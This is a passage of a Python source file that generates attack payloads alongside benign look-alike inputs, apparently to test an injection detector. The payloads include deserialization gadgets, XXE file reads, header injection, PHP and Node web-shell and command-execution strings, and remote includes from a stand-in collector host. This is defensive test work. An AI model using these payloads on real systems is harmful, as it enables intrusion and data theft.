        made += [net + bytes([len(name)]) + name.encode(), b64(net + bytes([len(name)]) + name.encode()), '{"$type":"System.Windows.Data.ObjectDataProvider, %s"}' % name]
    for name in ["Gem::Installer", "ERB", "Foo", "ActiveSupport::Deprecation"]:
        data = b"\x04\x08o:" + bytes([len(name) + 5]) + name.encode() + b"\x00"
        made += [data, b64(data)]
    return made + ["!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://collector.example/']]]]", "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: ldap://collector.example/a}", "<sorted-set><string>a</string><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>", "<map><entry><jdk.nashorn.internal.objects.NativeString/></entry></map>", "<ObjectDataProvider MethodName='Start' xmlns='http://schemas.microsoft.com/x'/>", "!ruby/hash:ActionController::Routing::RouteSet\nx: 1", "!!js/function 'function(){}'"]


def xxe(rng):
    urls = ["file:///etc/passwd", "file:///c:/windows/win.ini", "http://169.254.169.254/latest/", "http://collector.example/x.dtd", "php://filter/convert.base64-encode/resource=a.php", "expect://id", "ftp://collector.example/a", "jar:http://collector.example/a!/b", "netdoc:///etc/hosts", "gopher://127.0.0.1:70/"]
    made = []
    for index, url in enumerate(urls):
        root = ["foo", "data", "order", "svg", "r"][index % 5]
        entity = ["xxe", "e", "file", "ent", "b1"][index % 5]
        head = ["<?xml version=\"1.0\"?>", "<?xml version='1.0' encoding='UTF-8'?>\n", ""][index % 3]
        made += [
            f'{head}<!DOCTYPE {root} [<!ENTITY {entity} SYSTEM "{url}">]><{root}>&{entity};</{root}>', f"{head}<!DOCTYPE {root} [ <!ELEMENT {root} ANY > <!ENTITY {entity} SYSTEM '{url}' >]>\n<{root}>&{entity};</{root}>", f'{head}<!DOCTYPE {root} [<!ENTITY % {entity} SYSTEM "{url}"> %{entity};]><{root}/>', f'{head}<!DOCTYPE {root} SYSTEM "{url}"><{root}/>', f'{head}<!DOCTYPE {root} [<!ENTITY {entity} PUBLIC "any" "{url}">]><{root}>&{entity};</{root}>',
            f'<{root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="{url}"/></{root}>', f'<{root} xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="{url}"></x:include></{root}>', f'<!doctype {root} [<!entity {entity} system "{url}">]><{root}>&{entity};</{root}>', f'<!DOCTYPE\n{root}\n[\n<!ENTITY\n{entity}\nSYSTEM\n"{url}"\n>\n]><{root}>&{entity};</{root}>',
            f'<!DOCTYPE {root} [<!ENTITY {entity} SYSTEM "{url}">]><{root}>&{entity};</{root}>'.encode("utf-16-le"), f'<!DOCTYPE {root} [<!ENTITY {entity} SYSTEM "{url}">]><{root}>&{entity};</{root}>'.encode("utf-16-be"), percent(f'<!DOCTYPE {root} [<!ENTITY {entity} SYSTEM "{url}">]><{root}>&{entity};</{root}>'),
        ]
    for a, b in [("lol", "lol2"), ("a", "b"), ("x0", "x1"), ("ha", "haha")]:
        made += [f'<!DOCTYPE z [<!ENTITY {a} "{a}{a}"><!ENTITY {b} "&{a};&{a};&{a};">]><z>&{b};</z>', f"<!DOCTYPE z [<!ENTITY {a} '{a}'>]><z>&{a};</z>", f'<!DOCTYPE z [<!ENTITY % {a} "<!ENTITY &#37; {b} SYSTEM \'http://collector.example/\'>">%{a};]><z/>']
    return made + ["+ADw-!DOCTYPE a +AFs-+ADw-!ENTITY b SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-", "<svg xmlns='http://www.w3.org/2000/svg'><!DOCTYPE s [<!ENTITY t SYSTEM 'file:///etc/hostname'>]><text>&t;</text></svg>"]


def header(rng):
    fields = ["Set-Cookie: session=evil", "Location: http://collector.example/", "Content-Type: text/html", "Content-Length: 0", "X-XSS-Protection: 0", "Access-Control-Allow-Origin: *", "Refresh: 0;url=http://collector.example", "Transfer-Encoding: chunked", "Content-Security-Policy: default-src *", "Link: <http://collector.example>; rel=preload", "X-Forwarded-For: 127.0.0.1", "Cache-Control: public", "Last-Modified: Mon, 27 Oct 2060 14:50:18 GMT", "Clear-Site-Data: \"*\"", "Host: internal.example", "Content-Disposition: attachment", "X-Forwarded-Host: collector.example", "Authorization: Bearer x"]
    ends = ["\r\n", "\n", "\r", "%0d%0a", "%0a", "%0D", "%250d%250a", "\u560d\u560a", "\r\n\r\n", "%E5%98%8D%E5%98%8A"]
    leads = ["", "en", "/home", "foo", "42", "alice@example.com", "value1", "https://example.com/"]
    made = []
    for index, field in enumerate(fields):
        for turn in range(5):
            end = ends[(index * 3 + turn * 4) % len(ends)]
            text = field.replace(" ", "%20") if "%" in end else field
            made.append(leads[(index + turn) % len(leads)] + end + text + ["", "\r\n\r\n<script>x()</script>", ""][turn % 3])
    for index, field in enumerate(["Bcc: eve@collector.example", "Cc: a@b.example, c@d.example", "To: eve@collector.example", "Subject: cheap pills", "From: ceo@example.com", "Reply-To: eve@collector.example", "MIME-Version: 1.0\r\nContent-Type: text/html", "Content-Transfer-Encoding: base64"]):
        for lead in ["joe@example.com", "Joe", "support@b.example"][: 2 + index % 2]:
            if not field.startswith(("Subject", "Content-Transfer")) or "@" in lead:
                made += [f"{lead}\r\n{field}", f"{lead}\n{field}\n\nhello", f"{lead}%0A{percent(field)}"]
    return made + ["x\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>", "a HTTP/1.1\r\nHost: x.example\r\n\r\nGET /admin HTTP/1.1", "%0d%0aHTTP/1.1%20200%20OK%0d%0a", "x\r\n\r\n<html><h1>hi</h1>", "x%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E", "/a\r\nGET /b HTTP/1.1\r\nHost: c.example"]


def code(rng):
    commands = ["id", "whoami", "ls -la /", "cat /etc/passwd", "uname -a", "sleep 5"]
    made = []
    for command in commands:
        made += [
            f"__import__('os').system('{command}')", f"__import__('os').popen('{command}').read()", f"__import__('subprocess').check_output('{command}',shell=True)", f"'+__import__('os').popen('{command}').read()+'", f"os.system('{command}')", f"os.popen('{command}').read()", f"subprocess.check_output(['{command}'])", f"subprocess.Popen('{command}',shell=True)", f"eval(\"__import__('os').system('{command}')\")", f"exec('import os; os.system(\"{command}\")')", f"import os;os.system('{command}')", f"\"+str(__import__('os').popen('{command}').read())+\"", f"eval(compile('__import__(\"os\").system(\"{command}\")','','exec'))",
            f"<?php system('{command}'); ?>", f"<?php echo shell_exec('{command}');?>", f"<?=`{command}`?>", f"<? passthru('{command}'); ?>", f"<?php eval(base64_decode('{base64.b64encode(command.encode()).decode()}'));?>", f"system('{command}');", f"';system('{command}');//", f"\");system('{command}');//", f"${{@system('{command}')}}", f"{{${{system('{command}')}}}}", f"exec('{command}')", f"passthru('{command}')", f"shell_exec('{command}')", f"popen('{command}','r')", f"proc_open('{command}',[],$p)", f"assert('system(\"{command}\")')", f"call_user_func('system','{command}')", f"(sy.(st).em)('{command}')", f"\"system\"('{command}')", f"('sys'.'tem')('{command}')", f"$a='sys'.'tem';$a('{command}');",
            f"require('child_process').exec('{command}')", f"require('child_process').execSync('{command}').toString()", f"process.mainModule.require('child_process').execSync('{command}')", f"global.process.mainModule.constructor._load('child_process').execSync('{command}')", f"this.constructor.constructor('return process')().mainModule.require('child_process').execSync('{command}')", f"(function(){{return require('child_process').execSync('{command}')}})()", f"';require('child_process').exec('{command}');//", f"import('child_process').then(m=>m.exec('{command}'))",
            f"';system('{command}');'", f"IO.popen('{command}').read", f"Kernel.exec('{command}')", f"'{command}'.execute().text", f"Runtime.getRuntime().exec('{command}')", f"java.lang.Runtime.getRuntime().exec(\"{command}\")", f"new java.lang.ProcessBuilder('{command}').start()", f"new ProcessBuilder(\"{command}\").start()", f"%x({command})", f"Process.Start(\"cmd\",\"/c {command}\")",
        ]
    return made + [
        "phpinfo()", "<?php phpinfo();?>", "<?=phpinfo()?>", "';phpinfo();'", "${phpinfo()}", "{${phpinfo()}}", "${@print(md5(42))}", "print(md5(1234))", "eval($_GET['c'])", "assert($_POST['x'])", "include($_GET['p'])", "$_GET['f']($_GET['a'])", "$_POST[0]($_POST[1])", "<?php @eval($_POST['x']);?>", "<?php include('http://collector.example/a.txt');?>", "file_get_contents('/etc/passwd')", "readfile('/etc/passwd')", "include('/etc/passwd')", "require('http://collector.example/b')", "file_put_contents('a.php','x')", "preg_replace('/.*/e','phpinfo()','')", "create_function('','system(1);')", "array_map('system',array('id'))", "unserialize($_GET['x'])", "highlight_file('index.php')", "die(md5(7))", "<script language=\"php\">system('id');</script>", "base64_decode('aWQ=')", "gzinflate(base64_decode('x'))", "<?php $x=$_GET['a'];system($x);?>", "auto_prepend_file=http://collector.example/x", "allow_url_include=1&auto_prepend_file=php://input",
        "open('/etc/passwd').read()", "open(\"/proc/self/environ\").read()", "print(open('/etc/hosts').read())", "().__class__.__bases__[0].__subclasses__()", "[].__class__.__mro__[1].__subclasses__()", "''.__class__.__base__.__subclasses__()[59]", "getattr(__import__('os'),'system')('id')", "globals()['__builtins__']['eval']('1')", "__builtins__.__dict__['__import__']('os')", "importlib.import_module('os').system('id')", "pty.spawn('/bin/sh')", "eval('1+1')", "exec(\"print(1)\")", "time.sleep(10)", "'+(time.sleep(9))+'", "eval(input())",
        "{\"__proto__\":{\"isAdmin\":true}}", "{\"a\":{\"__proto__\":{\"b\":1}}}", "{\"constructor\":{\"prototype\":{\"polluted\":1}}}", "__proto__[admin]", "__proto__.admin", "a[__proto__][b]", "constructor[prototype][x]", "constructor.prototype.x", "x.__proto__.toString", "{\"__proto__\":null,\"x\":1}", "a.constructor.prototype.b", "process.exit()".replace("process.exit()", "process.binding('fs')"), "require('fs').readFileSync('/etc/passwd','utf8')", "require('fs').readdirSync('.')", "require(\"os\").hostname()".replace("require(\"os\").hostname()", "require('child_process').spawn('id')"), "new Function('return process')()", "Function('return this')()", "eval(atob('cHJvY2Vzcw=='))", "while(1);", "while(true){}", "for(;;);", "res.end(require('fs').readdirSync('/').toString())", "eval(String.fromCharCode(49))", "setTimeout('alert(1)',1)".replace("setTimeout('alert(1)',1)", "process.mainModule.exports"), "Deno.run({cmd:['id']})", "File.read('/etc/passwd')", "Dir.entries('/')", "eval('puts 1')", "open('|id').read", "send(:system,'id')", "os.execute('id')", "io.popen('id')", "new javax.script.ScriptEngineManager().getEngineByName('js').eval('1')", "Class.forName('java.lang.Runtime')", "new ActiveXObject('WScript.Shell').Run('calc')", "System.Diagnostics.Process.Start('calc')", "CreateObject(\"WScript.Shell\").Run(\"cmd\")", "GroovyShell().evaluate('x')".replace("GroovyShell().evaluate('x')", "['id'].execute().text"),
    ]


ATTACKS = {"shell": shell, "path": path, "template": template, "ssrf": ssrf, "nosql": nosql, "ldap": ldap, "xpath": xpath, "serialized": serialized, "xxe": xxe, "header": header, "code": code}


# ------------------------------------------------------------------------------------- ordinary inputs

FIRST = "Anna Liam Noah Emma Olivia Mia Luca Chloé Zoë José María Søren Łukasz Jürgen Åsa Nuño Siobhán Seán D'Angelo Björn François Renée Ana-Sofía Mehmet Ayşe İbrahim Ольга Дмитрий 太郎 美咲 伟 秀英 Mohammed Aïcha Fatima Kwame Thandiwe Priya Arjun Nguyễn Hoa Jean-Luc Anne-Marie Bjørn Zdeněk Ágnes Γιώργος Ελένη 민준 서연 עדי يوسف".split()
LAST = "O'Brien O'Connor D'Souza McDonald MacLeod de la Cruz van der Berg von Trapp Smith-Jones Müller Öztürk Nowak Kowalski García López Hernández Rossi Bianchi Silva Santos Ferreira Jansen Dubois Lefèvre Петров Иванова 鈴木 高橋 王 李 Okafor Mbeki Singh Patel Nguyen Tran N'Golo Ó'Súilleabháin Sørensen Lindqvist Novák Papadopoulos Cohen al-Hassan St. John Null Select Union Drop Case True King".split()


def name(rng):
    forms = ["{f} {l}", "{l}, {f}", "{f} {f2} {l}", "{f} {l}-{l2}", "Dr. {f} {l}", "{f} '{n}' {l}", "{f} \"{n}\" {l}", "{f}_{l}{d}", "{f}.{l}@example.{t}", "{f} & {f2} {l}", "Mr. & Mrs. {l}", "{f} {l} (née {l2})", "{f} {l} Jr.", "{f} {l}; {f2} {l2}", "{l} & Sons", "{f} | {l}", "{f}/{f2}", "{l}'s", "{f} <{f2}{d}@mail.example>", "@{f}{d}", "{f} {l}, Ph.D.", "{l} {l2} GmbH & Co. KG", "{f} + {f2}", "{f}%{d}"]
    nick = "Red Buddy Skip Ace Doc The Rock Mac Tex Lefty".split()
    return [rng.choice(forms).format(f=rng.choice(FIRST), f2=rng.choice(FIRST), l=rng.choice(LAST), l2=rng.choice(LAST), n=rng.choice(nick), d=rng.randrange(1, 99), t=rng.choice(["com", "org", "de", "co.uk"])) for _ in range(1400)]


def address(rng):
    streets = ["Main Street", "Rue de l'Église", "Königstraße", "Calle de Alcalá", "Via dell'Orso", "St. John's Road", "O'Connell St", "Avenida 9 de Julho", "ul. Długa", "Kungsgatan", "1st & Pike", "Industrieweg", "King's Cross", "丸の内", "Невский пр.", "Atatürk Cd.", "Unter den Linden", "Half Moon Bay Rd", "Drop Lane", "Union Square", "Table Rock Rd"]
    forms = ["{n} {s}", "{s} {n}", "{n}{a} {s}, Apt. #{m}", "{s} {n}/{m}", "{s} {n} ({m}. floor)", "{n} {s}; ring twice", "c/o {l}, {s} {n}", "{n} {s}\n{z} {c}", "{n} {s}\r\n{c} {z}\r\nAttn: {l}", "P.O. Box {z}, {c}", "{s} {n} - {m}", "Bldg. {a}, {s} & {s2}", "{n}-{m} {s}, {c}", "{c} | {z}", "{s} № {n}, кв. {m}", "{s} {n}, {z} {c} <back door>", "{c}, {s} {n}#{m}", "{n} {s}, {c} {z}, USA"]
    cities = ["Köln", "Saint-Étienne", "L'Aquila", "São Paulo", "Zürich", "Łódź", "Москва", "東京", "Dún Laoghaire", "New York", "'s-Hertogenbosch", "Winston-Salem", "Truth or Consequences", "Where", "Alt. Springs"]
    return [rng.choice(forms).format(n=rng.randrange(1, 400), m=rng.randrange(1, 60), a=rng.choice("ABCD"), s=rng.choice(streets), s2=rng.choice(streets), c=rng.choice(cities), z=rng.randrange(1000, 99999), l=rng.choice(LAST)) for _ in range(1300)]


def search(rng):
    things = "red shoes|usb-c cable|how to boil eggs|c++ tutorial|c# vs java|node.js|select all in excel|drop shipping|union jobs near me|table saw|where is my order|insert coin|order by phone|group by car rental|rock 'n' roll|r&b hits|at&t store|m&m's|h&m|barnes & noble|b&q opening hours|5\" pipe|6' ladder|1/2 inch bolt|<3 quotes|a|b testing|what is 2+2|10% off|50/50 raffle|$100 gift card|c:\\ drive full|.net core|.gitignore|etc hosts file|sleep sounds|cat videos|dog & cat food|ping pong|echo dot|curl ironing|head and shoulders|tail light|nail file|date night|time zone|who sang this|find my phone|kill bill|make up|wget alternatives|python snake|ruby ring|java coffee|perl necklace|bash at the beach|sh*t happens|null pointer|true or false|one or two|more or less|now and then|exec jobs|system of a down|shell gas station|root canal|passwd reset|admin jobs|script writing|javascript: the good parts|alert amber|onclick marketing|iframe pictures|svg icons|img size|style of 1990|{curly} hair|[brackets]|(parentheses)|back\\slash|`backtick`|tilde~|semi;colon|pipe|ampersand &|dollar $ign|100°|naïve|日本語|русский|ñandú|#hashtag|@mention|-minus -signs|\"exact phrase\"|site:example.com|filetype:pdf|intitle:index|cache:|price:10..50|color:blue OR color:red|title:(cats AND dogs)|name~2|foo*|fo?|\"to be or not to be\"|NOT available|rust && go|c || d|author:\"O'Neil\"".split("|")
    forms = ["{a}", "{a} {b}", "{a} near {c}", "best {a}", "{a} {d}", "{a} vs {b}", "buy {a} online", "{a} or {b}", "{a} and {b}", "why is {a} so {e}", "{a}?", "is {a} the same as {b}?", "{a} in {c}", "{a} -{b}", "\"{a}\"", "{a}, {b}"]
    return [rng.choice(forms).format(a=rng.choice(things), b=rng.choice(things), c=rng.choice(["me", "Berlin", "St. Louis", "L.A.", "Paris"]), d=rng.choice([2024, "review", "pdf", "for kids", "12.5", "50%", "#1"]), e=rng.choice(["good", "loud", "big", "slow", "expensive"])) for _ in range(1900)]


LANGUAGES = {
    "en": (["I think", "In my opinion", "Honestly", "We noticed that", "Yesterday", "It's great that", "Don't worry", "To be fair", "As you said", "Well", "My wife says", "Last week"], ["the delivery", "this hotel's pool", "your update", "the new recipe (with garlic & oil)", "the driver", "their support team", "the third chapter", "our neighbours' dog", "that \"free\" trial", "the price - $25 -", "version 2.0", "the whole team"], ["was late again", "couldn't be better!", "works; thanks a lot", "isn't what I ordered...", "made us laugh :)", "is 50% off & still expensive", "deserves 5/5 stars", "needs more salt", "broke after 2 days :(", "is on the table, select whatever you like", "came from the union of two ideas", "or 1 of the others, and that's fine", "drops every time I insert the card", "ends where it started", "; in short: buy it", "-- see you there"]),
    "de": (["Ich finde", "Leider war", "Gestern hat", "Meiner Meinung nach ist", "Super, dass", "Na ja,", "Für mich war", "Wie gesagt:"], ["das Zimmer", "der Versand", "die Größe", "der Service", "\u201edas Angebot\u201c", "die Straße", "der 2. Teil", "das Café"], ["sehr schön.", "leider nicht so toll...", "für 20 € okay", "zu spät & kaputt", "genau richtig!", "besser als gedacht; danke", "(noch) nicht fertig", "ein Traum :-)"]),
    "fr": (["Je pense que", "C'est dommage,", "Aujourd'hui", "À mon avis,", "L'an dernier,", "Bonjour, est-ce que", "Merci !", "D'après moi,"], ["l'hôtel", "la livraison", "le prix", "l'équipe", "« le menu »", "cet article", "la qualité", "l'appli"], ["n'est pas terrible.", "vaut 4/5", "est arrivée hier ; merci", "m'a beaucoup plu !", "coûte 15,90 €", "qu'on a choisi est top", "s'est cassé(e)", "d'accord ?"]),
    "es": (["Creo que", "¡Qué bien!", "Ayer", "La verdad,", "¿Sabes si", "Por favor,", "Según mi hermano,", "Hola:"], ["el envío", "la habitación", "el niño", "la película", "mi pedido nº 12", "el precio", "la señora", "\"la oferta\""], ["llegó tarde.", "no está mal...", "me encantó!", "¿no?", "cuesta 10 €; caro", "es & será el mejor", "está en la mesa", "y ya está"]),
    "it": (["Secondo me", "Purtroppo", "L'altro ieri", "Che bello,", "Dov'è", "Non so se", "C'è da dire che", "Grazie:"], ["l'albergo", "la spedizione", "il prezzo", "quest'app", "un po' d'acqua", "la città", "il 1º libro", "\"l'offerta\""], ["è perfetto.", "non va più", "costa 9,99 €!", "è arrivata; ottimo", "dell'anno scorso", "(per ora) ok", "ed è finita", "?"]),
    "pt": (["Acho que", "Infelizmente", "Ontem", "Não sei se", "Olá,", "Na minha opinião,", "Que bom!", "Será que"], ["a entrega", "o produto", "o preço", "a praia", "o copo d'água", "\"a promoção\"", "o nº 5", "a mãe"], ["chegou bem.", "não funciona :(", "custa R$ 10,00", "é ótimo!", "está à venda; veja", "& muito mais", "já foi", "ou não?"]),
    "nl": (["Ik vind", "Helaas was", "Gisteren kwam", "Volgens mij is", "'s Avonds is", "Mooi dat", "Dank je;", "Zo'n"], ["de kamer", "het pakket", "m'n fiets", "de prijs", "de foto's", "het 2e deel", "\"de actie\"", "de koffie"], ["erg mooi.", "te laat...", "prima voor € 5,-", "stuk & vies", "een aanrader!", "; top", "(bijna) klaar", "of niet?"]),
    "pl": (["Myślę, że", "Niestety", "Wczoraj", "Moim zdaniem", "Czy", "Dziękuję:", "Szczerze,", "Cześć!"], ["przesyłka", "pokój", "cena", "książka", "„promocja\"", "nr 7", "żona", "łazienka"], ["jest świetna.", "nie działa :(", "kosztuje 20 zł", "przyszła późno;", "była & będzie", "(jeszcze) nie", "super!", "czy nie?"]),
    "tr": (["Bence", "Maalesef", "Dün", "Lütfen,", "Acaba", "Teşekkürler;", "Türkiye'de", "Bu"], ["kargo", "otel", "fiyat", "ürün", "İstanbul'un en iyi çayı", "\"kampanya\"", "2. bölüm", "şarkı"], ["çok güzel.", "geç geldi...", "50 TL'ye değer", "çalışmıyor :(", "harika!", "var & yok", "mı?", "değil"]),
    "ru": (["Думаю,", "К сожалению,", "Вчера", "По-моему,", "Спасибо;", "Скажите,", "Ну что ж:", "А вот"], ["доставка", "номер", "цена", "книга «Мы»", "товар №3", "погода", "\"акция\"", "сервис"], ["отличная.", "не работает :(", "стоит 500 ₽", "пришла поздно...", "супер!", "или нет?", "(пока) да", "& точка"]),
    "ja": (["昨日、", "正直、", "すみません、", "とても", "この", "友達と", "「", "今日の"], ["配送", "ホテル", "値段", "ラーメン", "本", "アプリ", "部屋", "映画"], ["は良かったです。", "が遅い…", "は3,000円でした!", "、最高(^_^)", "」と言われた", "はどうですか？", "; また来ます", "&カフェ"]),
    "zh": (["我觉得", "昨天", "请问", "说实话,", "这个", "谢谢；", "可惜", "老板说"], ["快递", "酒店", "价格", "手机", "第2章", "“活动”", "味道", "客服"], ["很好。", "太慢了…", "是¥99!", "不能用 :(", "怎么样？", "(真的)不错", "和图片一样", "& 便宜"]),
}


def comment(rng):
    made = []
    for starts, subjects, ends in LANGUAGES.values():
        for _ in range(470):
            sentences = [f"{rng.choice(starts)} {rng.choice(subjects)} {rng.choice(ends)}" for _ in range(rng.choice([1, 1, 2, 2, 3, 4]))]
            made.append(rng.choice([" ", "\n", "\r\n", " - ", "\n\n"]).join(sentences))
    return made


def chat(rng):
    parts = "lol|brb|ok|k|ty|np|omw|:)|;)|;-)|<3|</3|:-P|^^|>_<|xD|¯\\_(ツ)_/¯|(╯°□°)╯︵ ┻━┻|o/|\\o/|;;|...|?!|!!|&&|i'm|can't|u r|2nite|@bob|#general|w/|w/o|b/c|24/7|c'mon|rock'n'roll|it's 5 o'clock|$$$|100%|~10|+1|-1|=)|=>|<=|->|<-|>>|//|/s|/me waves|*hugs*|_sigh_|~~no~~|`code`|'quotes'|\"air quotes\"|{shrug}|[link]|(maybe)|a|b|c or d|1 or 2|one and two|y/n?|q&a|r&d|t&c|pros & cons|if so, then|else nothing|select a seat|drop me a line|from where|order pizza|group hug|having fun|update pls|delete that|insert joke here|create a poll|union rep|like % off|null and void|true that|cat pics|echo echo|sleep well|ping me|kill it|head home|more tea|less talk|time to go|date night|who is in|find me|sort of|cut it out|touch wood|at 5|make it 6|man up|top it|test 123|script kiddie|alert!|eval week|exec summary|import tax|print it|open bar|include me|require ID|system down|shell we|process this|global news|window seat|document it|location?|cookie?|style!|on load|href what".split("|")
    return [" ".join(rng.choice(parts) for _ in range(rng.randrange(1, 9))) for _ in range(1500)]


def english_sql(rng):
    forms = ["Please select {a} from {b} and send it to {c}.", "Drop the {a} at {b} before {c} arrives", "Where is {a}? I can't find it; {b} or {c} might know.", "Union members and {b} order {a} by {c}", "Insert the {a} into {b}, then update {c}", "Delete {a} from {b} -- it's old", "The {a} table has {n} rows and {m} columns", "Create {a} or replace {b}; alter {c} if needed", "Either {a} or {b}, and {n} of {c}", "He said 'select {a}' and left", "Having {a} in {b} is like {c}", "Group {a} by {b}, order by {c}", "{n} or {m}?", "{n} and {m} or {n}", "{a} = {b} or not", "In case {a} is null, then {b} else {c}", "Values {a}, {b} & {c}", "Join {a} on {b} for {c}", "Limit {a} to {n} per {b}", "Between {n} and {m} {a}s", "Exec {a} as {b}", "Not {a}, but {b} like {c}", "SELECT ONE: {a}, {b}, {c}", "Don't truncate {a}'s {b}", "{a}'s or {b}'s", "it's {n}' x {m}'", "\"{a}\" or \"{b}\"", "Is {n} > {m} or is {m} > {n}?", "count ({a}) them; all {n} of them", "Grant {a} access to {b}, revoke {c}", "Use {a}; go {b}", "Cast {a} as {b}", "Set {a} = {n}, {b} = {m}", "All {a} from {b} where {c}", "Merge {a} into {b} when matched", "Waitfor delay: {n} min"]
    nouns = "the key|a colour|our house|the list|your plan|Tom's car|the manager|table 5|the drawer|an index|the view|sales|users|the database course|the password reset|accounts|my name|the year's end|dogs & cats|option B|the union rep|schema theory|the column on page 3|admin staff|the information desk|sleep|benchmarks|char broiled steak|version 2".split("|")
    return [rng.choice(forms).format(a=rng.choice(nouns), b=rng.choice(nouns), c=rng.choice(nouns), n=rng.randrange(1, 90), m=rng.randrange(1, 90)) for _ in range(1300)]


def code_snippet(rng):
    names = "total items user count index value result data list node buffer price name key row offset".split()
    forms = [
        "for (let {a} = 0; {a} < {n}; {a}++) {{ {b} += {c}[{a}]; }}", "def {a}({b}, {c}={n}):\n    return {b} * {c} + {m}", "if ({a} > {n} && {b} !== null || {c}) return;", "const {a} = {b}.map(({c}) => {c} * {n});", "let mut {a} = Vec::with_capacity({n});\nfor {b} in {c}.iter() {{ {a}.push({b} + {m}); }}", "fn {a}<T: Clone>({b}: &[T]) -> Option<&T> {{ {b}.get({n}) }}", "int {a} = {n}; char *{b} = \"{c}\";", "printf(\"%d: %s\\n\", {a}, {b});", "System.out.println({a} + \": \" + {b});", "print(f\"{{{a}}} of {{{b}}}\")", "{a} = [{b} for {b} in range({n}) if {b} % {m} == 0]", "puts \"#{{{a}}} - #{{{b}}}\"", "echo \"{a}: $\" . ${b} . \"\\n\";", "${a} = array('{b}' => {n}, '{c}' => {m});", "foreach (${a} as ${b} => ${c}) {{ print ${c}; }}", "try {{ {a}(); }} catch (e) {{ console.error('{b}', e); }}", "import {{ {a}, {b} }} from './{c}';", "from {a} import {b}\n\n{c} = {b}({n})", "use std::collections::HashMap;\nlet {a}: HashMap<String, u32> = HashMap::new();", "#include <stdio.h>\nint main(void) {{ return {n}; }}", "package main\n\nfunc {a}({b} int) int {{ return {b} << {n} }}", "$('#{a}').addClass('{b}');", "$(\".{a}\").on(\"click\", {b});", "document.getElementById('{a}').value = {n};", "{a}?.{b} ?? {n}", "`${{{a}}} / ${{{b}}}`", "{a} ? {b} : {c}", "while {a} < {n}: {a} += {m}", "switch ({a}) {{ case {n}: {b}(); break; default: {c}(); }}", "@app.route('/{a}')\ndef {b}():\n    return render_template('{c}.html')", "public class {A} {{ private int {b} = {n}; }}", "lambda {a}: {a}[{n}:{m}]", "{a} |> Enum.map(&(&1 * {n}))", "select {{ case {a} := <-{b}: _ = {a} }}", "<div class=\"{a}\">{b}</div>", "UPDATE_{A} = {n}", "{a}->{b}({n});", "std::cout << {a} << std::endl;", "match {a} {{ Some({b}) => {b}, None => {n} }}", "assert {a} == {n}, '{b}'", "with open({a}) as {b}:\n    {c} = {b}.read()", "{a}.sort((x, y) => x.{b} - y.{b})", "async function {a}() {{ await {b}({n}); }}", "type {A} = {{ {b}: string; {c}?: number }};", "npm install {a}-{b} --save-dev", "git checkout -b feature/{a}-{n}", "docker run -p {n}80:80 {a}/{b}", "cd {a} && make -j{n}", "cargo test --workspace -- {a}", "pip install {a}=={n}.{m}", "ls -la | grep {a}", "sudo systemctl restart {a}", "chmod +x {a}.sh && ./{a}.sh", "kubectl get pods -n {a} | grep {b}", "SELECTOR: .{a} > .{b}", "// TODO({a}): remove {b} in v{n}", "/* {a}: {b} */", "# {a} {b} {c}", "-- {a} {b}", "let [{a}, set{A}] = useState({n});", "return {a} % {n} === 0 ? '{b}' : '{c}';", "{a}[{b}] = {c} | 0x{n:x};", "#define {A}({b}) (({b}) * {n})", "template <typename T> T {a}(T {b}) {{ return {b}; }}", "raise ValueError('{a} must be < {n}')", "throw new Error(`no {a}`);", "(defun {a} ({b}) (* {b} {n}))", "{a} <- c({n}, {m}); mean({a})", "Get-{A} | Where-Object {{ $_.{B} -gt {n} }}".replace("Get-", "Show-"),
    ]
    return [rng.choice(forms).format(a=(a := rng.choice(names)), b=(b := rng.choice(names)), c=rng.choice(names), A=a.title(), B=b.title(), n=rng.randrange(2, 90), m=rng.randrange(2, 30)) for _ in range(2300)]


def markdown(rng):
    words = "install the package|read the docs|open an issue|run the tests|edit the config|see the changelog|pick a theme|join the chat|fix typos|add a badge".split("|")
    forms = ["# {a}\n\n- {b}\n- {c}\n", "Use `{k}` to {a}, then `{k2}`.", "[{a}](https://example.com/{n}) or [{b}](../docs/{n}.md)", "| id | name | {a} |\n|----|------|-----|\n| {n} | x | {b} |", "1. {a}\n2. {b}\n3. **{c}**", "> {a}\n\n{b} — *{c}*", "```bash\n{k}\n{k2}\n```", "```js\nconst x = {n};\n```\n{a}", "![logo](./img/{n}.png) {a}", "- [ ] {a}\n- [x] {b}", "~~{a}~~ **{b}** _{c}_", "{a}[^1]\n\n[^1]: {b}", "<details><summary>{a}</summary>{b}</details>", "Press <kbd>Ctrl</kbd>+<kbd>C</kbd> to {a}", "***\n{a}\n***", "{a} & {b}; {c} | {a}", "`{k}` vs. `{k2}`: {a}?", "## {n}.{n} {a}\n\n    {k}\n", "\\*{a}\\* costs \\${n}", "$x^{{{n}}} + y_{{2}}$ {a}", "| {a} | {b} |", "{a}: `{k}`; {b}: `{k2}`", "<!-- {a} -->\n{b}", "@user1 {a} (#{n})", "* {a}\n  * {b}\n    * {c}"]
    commands = "npm install|npm run build|git pull --rebase|cargo build --release|make test|pip install -r requirements.txt|ls|cd src|docker compose up -d|yarn add left-pad|go test ./...|python manage.py migrate|cat README.md|echo hello|whoami|which python|id|date|brew update|mvn package".split("|")
    return [rng.choice(forms).format(a=rng.choice(words), b=rng.choice(words), c=rng.choice(words), k=rng.choice(commands), k2=rng.choice(commands), n=rng.randrange(1, 300)) for _ in range(1400)]


def json_value(rng):
    keys = "id name type items total price $schema $ref tags user email created_at @type @context enabled path url count meta options query where select order from limit".split()

    def value(depth):
        pick = rng.randrange(9 if depth < 3 else 6)
        if pick == 0:
            return rng.randrange(10000)
        if pick == 1:
            return rng.choice([True, False, None])
        if pick == 2:
            return round(rng.random() * 100, 2)
        if pick < 6:
            return rng.choice(["Person", "O'Brien", "a & b", "https://example.com/x?y=1&z=2", "2024-05-01T10:00:00Z", "it's \"fine\"", "#/definitions/a", "select", "draft-07", "1 or 2", "/home", "<b>", "50%", "${name}", "{{ name }}", "ünï"])
        if pick == 6:
            return [value(depth + 1) for _ in range(rng.randrange(4))]
        return {rng.choice(keys): value(depth + 1) for _ in range(rng.randrange(1, 4))}

    made = []
    for _ in range(1300):
